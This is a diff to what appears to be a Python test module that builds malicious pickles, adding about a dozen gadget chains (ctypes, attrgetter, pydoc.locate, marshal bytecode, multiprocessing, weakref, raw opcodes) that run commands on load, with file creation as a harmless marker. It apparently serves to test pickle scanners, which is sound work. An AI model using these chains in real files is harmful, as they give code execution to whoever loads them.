@@ -1,5 +1,6 @@
 """Pickles that run code where Python reads them, each of another kind: built here, never kept as files."""
 
+import marshal
 import struct
 from dataclasses import dataclass
 from typing import Any
@@ -96,6 +97,23 @@ CALLS = {  # kind: path → a value that makes a file there on its way
         call("collections.defaultdict", call("functools.partial", Name("os", "mkdir"), p)), "__missing__", 1
     ),
 }
+CALLS |= {
+    "ctypes": lambda p: method(call("ctypes.CDLL", "libc.so.6"), "system", _touch(p).encode()),
+    "attrgetter": lambda p: call(
+        call(call("operator.attrgetter", "system"), call("importlib.import_module", "os")), _touch(p)
+    ),
+    "itemgetter": lambda p: call(
+        call(call("operator.itemgetter", "system"), call("builtins.vars", call("builtins.__import__", "os"))), _touch(p)
+    ),
+    "pydoc": lambda p: call(call("pydoc.locate", "os.system"), _touch(p)),
+    "bytecode": lambda p: call(
+        call("types.FunctionType", call("marshal.loads", marshal.dumps(compile(_python(p), "x", "exec"))), {})
+    ),
+    "pathlib": lambda p: method(call("pathlib.PosixPath", p), "write_text", "x"),
+    "multiprocessing": lambda p: call("multiprocessing.util.spawnv_passfds", b"/bin/touch", ["touch", p], []),
+    "codecs": lambda p: call("codecs.open", p, "w"),
+    "weakref": lambda p: call(call("weakref.finalize", Name("io", "StringIO"), Name("os", "system"), _touch(p))),
+}
 RAW = {  # instructions that calls do not use
     "a name of Python 2": lambda p: b"\x80\x02" + emit(call("__builtin__.eval", _python(p))) + b".",
     "INST": lambda p: b"(S'touch " + p.encode() + b"'\nios\nsystem\n.",
@@ -109,6 +127,9 @@ RAW = {  # instructions that calls do not use
         + b"tR0"
         + emit(Name("builtins", "object"))
         + b")\x81."
+    ),
+    "NEWOBJ_EX": lambda p: (
+        b"\x80\x04" + emit(Name("numpy", "memmap")) + emit(p) + b"\x85" + emit({"mode": "w+", "shape": 1}) + b"\x92."
     ),
     "dotted name": lambda p: b"\x80\x04" + emit("os") + emit("path.os.system") + b"\x93(" + emit(_touch(p)) + b"tR.",
     "BUILD": lambda p: (
